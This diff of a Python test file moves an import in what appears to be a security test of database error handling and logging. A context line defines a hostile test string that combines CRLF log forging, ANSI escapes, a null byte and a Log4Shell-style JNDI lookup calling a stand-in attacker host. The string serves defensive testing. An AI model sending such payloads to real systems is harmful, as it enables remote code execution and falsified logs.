@@ -10,6 +10,7 @@ import structlog
 from sqlalchemy import text
 from sqlalchemy.exc import DBAPIError
 
+from examapp.errors import handle_unexpected
 from tests.people.conftest import sign_in
 
 HOSTILE = 'x\r\n{"event":"forged"}\r\n\x1b[31mred\x1b[0m ${jndi:ldap://evil.example/a} \u2028\x00'
@@ -62,8 +63,6 @@ def test_h20_an_error_of_the_database_quotes_no_row_and_no_parameter(app, sessio
             ),
             values,
         )
-
-    from examapp.core.errors import handle_unexpected
 
     with app.test_request_context("/"), pytest.raises(DBAPIError) as broken, session.begin_nested():
         break_it()
